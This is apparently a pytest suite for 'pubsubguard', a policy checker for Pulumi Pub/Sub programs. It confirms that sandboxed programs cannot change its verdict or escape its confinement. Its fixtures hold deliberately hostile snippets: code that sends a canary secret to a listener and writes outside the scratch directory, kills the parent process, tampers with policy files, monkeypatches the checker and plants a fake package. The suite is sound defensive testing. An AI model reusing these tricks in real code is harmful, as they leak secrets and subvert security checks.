"""`pubsubguard check` against programs that try to change its verdict or reach past it (issue 23).

Each program is small and does one trick. Every case asserts the exact exit code, that `--format json`
stdout parses and is pubsubguard's own document, and that nothing leaked: a TCP listener this test
starts received no connection, no file appeared outside the program's scratch directory, no process
the program started is left, and a secret from the check's environment never reached the program.
These need the confinement (bubblewrap) that `scripts/setup.sh` installs: without it the check says
so and runs the program unconfined, which these tests would rightly fail."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest
import yaml

from support.hostile import (
    CANARY, Listener, as_installed, judged_as_expected, lingering, mandatory, nothing_leaked, packs, verdict,
)
from support.hostile import installed_user_cache, listener  # noqa: F401 - fixtures, used by name

VIOLATION = """
t = gcp.pubsub.Topic("orders", name="orders")
gcp.pubsub.Subscription("eo-push", name="eo-push", topic=t.name, enable_exactly_once_delivery=True,
    push_config={"push_endpoint": "https://push.example.com/p"}, expiration_policy={"ttl": ""})
"""  # no-exactly-once-on-push: mandatory
CLEAN = """
gcp.pubsub.Topic("orders", name="orders", message_retention_duration="86400s")
"""

def project(tmp_path: Path, source: str, listener: Listener) -> Path:
    root = tmp_path / "team"
    root.mkdir()
    (root / "Pulumi.yaml").write_text(yaml.safe_dump({"name": "team", "runtime": "python"}))
    (root / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": {"gcp:project": "proj-a"}}))
    header = f"""
import os, sys, socket, signal, subprocess, threading, time, atexit
import pulumi, pulumi_gcp as gcp
PORT = {listener.port}
OUTSIDE = {str(tmp_path / "outside")!r}
PACKS = {[str(pack) for pack in packs()]!r}
MARKER = {CANARY!r}
def exfiltrate():
    token = os.environ.get("CANARY_TOKEN", "no-token")
    for attempt in (lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(token.encode()),
                    lambda: open(OUTSIDE, "w").write(token)):
        try:
            attempt()
        except OSError:
            pass
def linger():
    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", MARKER], start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    (root / "__main__.py").write_text(header + textwrap.dedent(source))
    return root


CASES = {
    # name: (program, extra args, exit code, stderr must contain, mandatory seen)
    "exit-0-at-exit-after-a-violation": (VIOLATION + "exfiltrate(); atexit.register(lambda: os._exit(0))\n",
                                         (), 1, "", ["no-exactly-once-on-push"]),
    "timer-exits-0-before-the-end": (VIOLATION + "threading.Timer(0.2, lambda: os._exit(0)).start(); time.sleep(5)\n",
                                     (), 2, "exited (code 0) before it completed", []),  # before it registered
    "os-exit-0-first": ("os._exit(0)\n" + VIOLATION, (), 2, "exited (code 0) before it completed", []),
    "prints-a-fake-verdict": ('print(\'{"passed": true, "violations": []}\'); sys.stdout.flush()\n' + VIOLATION,
                              (), 1, "", ["no-exactly-once-on-push"]),
    "sends-secrets-out-and-writes-outside": ("exfiltrate()\n" + CLEAN, (), 0, "", []),
    "leaves-a-process-behind": ("linger()\n" + CLEAN, (), 0, "", []),
    "kills-its-parent": (VIOLATION + "os.kill(os.getppid(), signal.SIGKILL); time.sleep(1)\n",  # the PID
                         (), 1, "", ["no-exactly-once-on-push"]),  # namespace's init: the kill reaches nobody
    "signals-its-process-group": (VIOLATION + "os.killpg(0, signal.SIGTERM); time.sleep(5)\n",
                                  (), 2, "killed by SIGTERM", []),  # before its resources registered
    "ignores-signals-and-spins": ("signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                  "linger()\nwhile True: pass\n", ("--timeout", "3"), 2, "did not finish within 3 s", []),
    "closes-stdout-and-stderr": ("os.close(1); os.close(2)\n" + VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "a-daemon-holds-stdout": ("subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', MARKER])\n" + CLEAN,
                              (), 0, "", []),
    "floods-stdout": ("chunk = 'x' * 65536 + '\\n'\nfor _ in range(800): sys.stdout.write(chunk)\n" + VIOLATION,
                      (), 1, "", ["no-exactly-once-on-push"]),
    "allocates-4-gib": ("block = bytearray(4 * 1024 ** 3)\n" + CLEAN, (), 2, "--memory-limit", []),
    "registers-200000-resources": ("for i in range(200000): gcp.pubsub.Topic(f't{i}', name=f'topic-{i:06d}')\n",
                                   ("--max-resources", "300"), 2, "more than 300 resources (--max-resources", []),
    "a-10-mb-input": ("gcp.pubsub.Topic('big', name='big', labels={'x': 'y' * 10_000_000})\n", (), 2,
                      "over the limit of 1,000,000 (--max-input-bytes", []),
    "edits-the-policy-pack": ("""
for pack in PACKS:
    for target in (os.path.join(pack, "pubsub_rules", "zz_hostile.py"), os.path.join(pack, "PulumiPolicy.yaml")):
        try:
            open(target, "a").write("\\n# changed by a program\\n")
        except OSError:
            pass
""" + VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "monkeypatches-pubsubguard": ("""
try:
    import pubsubguard.judging as c, pubsubguard.core.plan as p
    c.format_json = lambda result: '{"passed": true}\\n'
    c.Outcome.exit_code = property(lambda self: 0)
    p.run_program = None
except ImportError:
    pass
""" + VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "logs-an-error-and-exits-0": (VIOLATION + "pulumi.log.error('all good, really')\n", (), 2, "all good, really",
                                  ["no-exactly-once-on-push"]),
    "reads-its-environment": ("""
leaked = [k for k, v in os.environ.items() if v == MARKER or k == "CANARY_TOKEN"]
home_ok = os.environ["HOME"].startswith(os.environ["TMPDIR"].rsplit("/", 1)[0])
gcp.pubsub.Topic("env", name="env-" + ("leaked" if leaked else "clean") + ("-home" if home_ok else "-nohome"))
""", (), 0, "", []),
}


@pytest.mark.parametrize("name", sorted(CASES))
@pytest.mark.parametrize("tool", ["checkout", "wheel"])
def test_a_hostile_program_cannot_change_the_verdict_or_reach_out(name, tool, tmp_path, listener):
    root = project(tmp_path, CASES[name][0], listener)
    if tool == "wheel":
        as_installed(root)
    judged_as_expected(root, name, CASES[name], tool, tmp_path, listener)


def test_a_repository_with_its_own_pubsubguard_package_cannot_stand_in_for_the_judge(tmp_path, listener):
    """The check runs in the judged repository: a `pubsubguard/` folder there (a pull request can add one)
    must not be what the check's own processes import."""
    root = project(tmp_path, VIOLATION, listener)
    fake = root / "pubsubguard" / "check"
    fake.mkdir(parents=True)
    (root / "pubsubguard" / "__init__.py").write_text("")
    (fake / "__init__.py").write_text(
        "import sys\ndef judge_main(*args):\n    sys.exit(0)\n")  # a judge that answers nothing and exits 0
    script = Path(sys.executable).parent / "pubsubguard"  # as users run it (`python -m` would put the cwd first)
    done = subprocess.run([str(script), "check", "--format", "json"], cwd=root, capture_output=True, text=True,
                          timeout=120, env={**os.environ, "CANARY_TOKEN": CANARY}, stdin=subprocess.DEVNULL)
    assert done.returncode == 1, done.stderr
    assert mandatory(verdict(done)) == ["no-exactly-once-on-push"]


def test_a_flood_is_cut_in_the_text_output(tmp_path, listener):
    root = project(tmp_path, "for _ in range(100000): print('spam ' * 20)\n" + CLEAN, listener)
    done = subprocess.run([sys.executable, "-m", "pubsubguard", "check"], cwd=root, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    assert "Program output (diagnostics):" in done.stdout and "more bytes not shown" in done.stdout
    assert len(done.stdout) < 20_000
    assert done.stdout.rstrip().splitlines()[-1].startswith("PASSED")


def test_secrets_are_masked_everywhere_and_still_judged(tmp_path, listener):
    secret_host = "hunter2-" + uuid.uuid4().hex[:8]
    root = project(tmp_path, f"""
t = gcp.pubsub.Topic("orders", name="orders")
gcp.pubsub.Subscription("push", name="push-sub", topic=t.name, expiration_policy={{"ttl": ""}},
    push_config={{"push_endpoint": pulumi.Output.secret("http://{secret_host}.example.com/push")}})
print("endpoint is http://{secret_host}.example.com/push")
""", listener)
    outputs = []
    for fmt in ("text", "json", "sarif"):
        done = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--format", fmt], cwd=root,
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 1, done.stderr  # push-endpoint-https judged the secret value
        outputs.append(done.stdout + done.stderr)
    assert "push-endpoint-https" in outputs[1]
    plan = tmp_path / "plan.json"
    subprocess.run([sys.executable, "-m", "pubsubguard", "plan", "--out", str(plan)], cwd=root, check=True,
                   capture_output=True)
    assert all(secret_host not in text for text in outputs + [plan.read_text()])
    assert "[secret]" in outputs[0] and '"secrets": "redacted"' in plan.read_text()
    shown = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--show-secrets"], cwd=root,
                           capture_output=True, text=True, timeout=120)
    assert secret_host in shown.stdout
    again = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--plan", str(plan), "--format", "json"],
                           cwd=root, capture_output=True, text=True, timeout=120)
    document = json.loads(again.stdout)  # a redacted secret is unknown to the rules: not judged, not rejected
    assert "push-endpoint-https" not in mandatory(document)
    assert any(e["policy"] == "push-endpoint-https" for e in document["unjudged"])


def test_ctrl_c_while_the_program_runs_ends_the_check_within_a_second(tmp_path, listener):
    root = project(tmp_path, "signal.signal(signal.SIGINT, signal.SIG_IGN)\nlinger()\n" + CLEAN + "while True: pass\n",
                   listener)
    process = subprocess.Popen([sys.executable, "-m", "pubsubguard", "check"], cwd=root, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not lingering() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert lingering(), "the program never started"
    for sig in (signal.SIGINT,):
        process.send_signal(sig)
        sent = time.monotonic()
        out, err = process.communicate(timeout=10)
        assert time.monotonic() - sent < 1.5
    assert process.returncode == 130 and err.strip().splitlines()[-1] == "pubsubguard check: interrupted"
    nothing_leaked(tmp_path, listener)


def test_sigterm_while_the_program_runs_is_130_and_leaves_nothing(tmp_path, listener):
    root = project(tmp_path, "linger()\n" + CLEAN + "time.sleep(300)\n", listener)
    process = subprocess.Popen([sys.executable, "-m", "pubsubguard", "check"], cwd=root, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not lingering() and time.monotonic() < deadline:
        time.sleep(0.1)
    process.terminate()
    sent = time.monotonic()
    process.communicate(timeout=10)
    assert time.monotonic() - sent < 1.5 and process.returncode == 130
    nothing_leaked(tmp_path, listener)


def test_require_isolation_fails_where_bubblewrap_cannot_run(tmp_path, listener):
    root = project(tmp_path, CLEAN, listener)
    env = {**os.environ, "PATH": "/nonexistent"}  # no bwrap (nor prlimit) on PATH
    done = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--require-isolation"], cwd=root, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "pubsubguard check: --require-isolation: bubblewrap (bwrap) is not installed: the program runs without "
        "network, file-system and PID isolation (its environment is still an allowlist; install bubblewrap for the rest)"]
    unconfined = subprocess.run([sys.executable, "-m", "pubsubguard", "check"], cwd=root, env=env,
                                capture_output=True, text=True, timeout=120)
    assert unconfined.returncode == 0, unconfined.stderr
    # only pubsubguard's own notes: the memory limit is set without Python code between fork and exec, where gRPC's
    # fork handlers printed a log line here and, under load, the child died of SIGABRT before exec
    assert all(line.startswith("pubsubguard") for line in unconfined.stderr.strip().splitlines()), unconfined.stderr
    assert "bubblewrap (bwrap) is not installed" in unconfined.stderr


def test_without_prlimit_the_memory_limit_still_holds(tmp_path, listener):
    root = project(tmp_path, "block = bytearray(4 * 1024 ** 3)\n" + CLEAN, listener)
    env = {**os.environ, "PATH": "/nonexistent"}  # no prlimit: pubsubguard sets the limit itself
    done = subprocess.run([sys.executable, "-m", "pubsubguard", "check", "--memory-limit", "512"], cwd=root, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    assert "(the program's memory is limited to 512 MiB; --memory-limit MIB raises it)" in done.stderr, done.stderr
